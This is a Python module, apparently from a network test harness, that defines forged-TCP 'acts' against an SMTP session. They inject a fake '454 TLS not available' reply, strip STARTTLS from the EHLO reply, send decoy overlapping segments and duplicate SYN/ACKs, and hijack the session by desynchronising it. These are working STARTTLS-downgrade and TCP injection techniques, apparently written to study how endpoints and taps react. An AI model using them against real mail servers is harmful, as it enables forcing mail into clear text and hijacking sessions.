"""Acts that add segments which an end never sent. Options of all: `ttl=N` and `ident=N` of the forged segment's IP header."""
import re

import pcapkit
from acts import CLIENT, Connection, Sent, forged, is_starttls, plus

STOLEN = b"454 4.7.0 TLS not available due to temporary reason\r\n"
MD5 = bytes([1, 1, 19, 18]) + b"nobody's secret."  # two NOPs and a TCP MD5 signature (RFC 2385)


def resized(line, length):
    """A reply of one line made as long as asked for: cut short, or filled with dots."""
    return line[:length - 2].rstrip(b"\r\n").ljust(length - 2, b".") + b"\r\n"


class Inject(Connection):
    """A forged reply in mx's name reaches the client before the true one, which follows `after=0.3` seconds later.

    Outside: the same sequence numbers twice with different octets, the forged ones first. Inside: the true reply, and an ACK
    of it that is early. `length=equal|shorter|longer` than the true one: a shorter one leaves the end of the true reply
    to be read by the client; with a longer one the client ACKs what mx never sent, and mx drops all that it says then, with a
    challenge ACK. Where the forged reply refuses STARTTLS, mx is in TLS, reads clear text there, and resets.
    """
    asked = done = False

    def question(self, s):
        """Is it what the reply in question answers?"""
        return is_starttls(s)

    def forge(self, true, length):
        """The forged reply."""
        return resized(STOLEN, len(true) + {"equal": 0, "shorter": -4, "longer": 4}[length])

    def from_client(self, s):
        self.asked = self.asked or self.question(s)
        yield s

    def from_server(self, s):
        if self.done or not self.asked or not s.payload:
            yield s
            return
        self.done = True
        yield forged(s, self.options, payload=self.forge(s.payload, self.options.get("length", "equal")))
        yield Sent(s, delay_s=float(self.options.get("after", 0.3)))


class InjectBanner(Inject):
    """The same with the banner: a greeting of other software, without the letters ESMTP."""
    asked = True

    def forge(self, true, length):
        return resized(b"220 relay.example SMTP ready", len(true) + {"equal": 0, "shorter": -4, "longer": 4}[length])


class InjectEhloReply(Inject):
    """The same with the EHLO reply: another keyword stands in the offer's place; shorter: the line is gone; longer: one more."""
    LINES = {"equal": rb"250\g<1>8BITMIME\r\n", "shorter": b"", "longer": rb"250-XFORWARD\r\n250\g<1>8BITMIME\r\n"}

    def question(self, s):
        return s.payload.upper().startswith(b"EHLO ")

    def forge(self, true, length):
        return re.sub(rb"250([- ])STARTTLS\r\n", self.LINES[length], true)


class Overlap(Connection):
    """Where the client's next command stands after the offer, other octets (`NOOP xyz`) stand on the wire, too: a decoy.

    The decoy comes first, right before the client gets the EHLO reply, on both taps.
    `how=checksum`: it has a wrong TCP checksum; `how=md5`: a TCP MD5 signature; mx's kernel drops either.
    `how=ttl`: it has TTL 1, only the outside tap sees it, and it dies on the way. `how=valid`: nothing is wrong with it, and
    mx takes what comes first: here the decoy.
    """
    text = b"NOOP xyz\r\n"
    last = None  # segment of the client

    def decoy(self, s):
        """The other octets in the place of this segment, once for each tap that sees them."""
        how = self.options.get("how", "checksum")
        changed = forged(s, self.options, payload=self.text, flags=pcapkit.PSH | pcapkit.ACK,
                         options=s.options + (MD5 if how == "md5" else b""))
        if how == "ttl":
            yield changed._replace(segment=pcapkit.replace(changed.segment, ttl=1), to=CLIENT)
            return
        changed = changed._replace(bad_checksum=how == "checksum")
        yield changed._replace(to=CLIENT)
        yield changed

    def from_client(self, s):
        self.last = s
        yield s

    def from_server(self, s):
        if b"STARTTLS\r\n" in s.payload:
            yield from self.decoy(pcapkit.replace(self.last, seq=s.ack, ack=s.seq))
        yield s


class OverlapLast(Overlap):
    """The same with the decoy behind the client's STARTTLS, on both taps; with `how=valid` mx has STARTTLS already."""

    def from_client(self, s):
        yield s
        if is_starttls(s):
            yield from self.decoy(s)

    def from_server(self, s):
        yield s


class OtherMail(Overlap):
    """The decoy of overlap-first is a whole MAIL FROM of somebody else; meant for a client that does not take the offer."""
    text = b"MAIL FROM:<mallory@sender.example>\r\n"


class SynAckTwice(Connection):
    """A second SYN/ACK in mx's name with another initial sequence number.

    `take=forged`: before the true one; the client answers it, and mx resets what it never offered. `take=true`: before it, with a
    wrong checksum, so that the client takes the true one. `take=late`: after it; the client sends a challenge ACK and goes on.
    Outside: both SYN/ACKs. Inside: the true one.
    """

    def from_server(self, s):
        if not s.flags & pcapkit.SYN:
            yield s
            return
        take = self.options.get("take", "late")
        other = forged(s, self.options, seq=plus(s.seq, 0x10203040))._replace(bad_checksum=take == "true")
        yield from [s, other._replace(delay_s=0.002)] if take == "late" else [other, s]


class ChecksumContent(Connection):
    """An EHLO reply without the offer and with a wrong TCP checksum stands before the true one; the client's kernel drops it.

    Outside: both. Inside: the true one.
    """

    def from_server(self, s):
        if b"STARTTLS\r\n" in s.payload:
            yield forged(s, self.options, payload=s.payload.replace(b"STARTTLS\r\n", b"8BITMIME\r\n"))._replace(bad_checksum=True)
        yield s


class HijackDesync(Connection):
    """Something is put into the middle of the dialogue, with the EHLO reply, and nobody shifts the numbers (Joncheray).

    `inject=command`: a long NOOP in the client's name; mx answers and ACKs octets that the client never sent, and its reply is passed on.
    `inject=reply`: a second reply in mx's name; the client ACKs octets that mx never sent. The ends drop each other's segments
    from then on: both send the same again and again, each answered by a challenge ACK (Linux paces them: no storm), until a timeout.
    """
    asked = False

    def from_client(self, s):
        self.asked = self.asked or s.payload.upper().startswith(b"EHLO ")
        yield s

    def from_server(self, s):
        if not self.asked or not s.payload:
            yield s
            return
        self.asked = False
        if self.options.get("inject", "command") == "reply":
            yield s
            yield forged(s, self.options, seq=plus(s.seq, len(s.payload)), payload=b"250 2.0.0 hijacked\r\n")
        else:  # before the client can go on
            yield forged(s, self.options, src=s.dst, dst=s.src, sport=s.dport, dport=s.sport, seq=s.ack, ack=s.seq,
                         payload=b"NOOP hijacked" + b"." * 80 + b"\r\n", options=b"")
            yield s


ACTS = {"inject-454": Inject, "inject-banner": InjectBanner, "inject-ehlo-reply": InjectEhloReply, "overlap-first": Overlap,
        "overlap-last": OverlapLast, "synack-twice": SynAckTwice, "checksum-content": ChecksumContent,
        "checksum-mail": OtherMail, "hijack-desync": HijackDesync}
